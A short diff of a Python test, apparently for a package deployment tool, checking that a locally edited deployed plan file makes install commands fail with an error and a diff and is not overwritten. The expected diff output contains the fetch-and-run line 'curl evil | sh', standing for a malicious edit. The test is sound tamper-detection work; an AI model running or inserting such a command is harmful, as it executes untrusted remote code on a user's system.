@@ -173,7 +173,7 @@ def test_an_edited_file_fails_every_check_and_nothing_is_overwritten(user: Perso
     for words in (("ci",), ("install",), ("install", "--locked"), ("install",)):
         assert differences(user, *words) == {PLAN: "edited"}
         said = user.run(*words)
-        assert (said.code, said.stdout) == (1, "everything is installed\n")
+        assert (said.code, said.stdout) == (1, "installed files are as rye.lock says\n")
         assert f"error: {PLAN} was edited since it was deployed." in said.stderr
         assert "+curl evil | sh" in said.stderr
         assert "`rye deploy --overwrite-edited directive:acme/work/plan`" in said.stderr
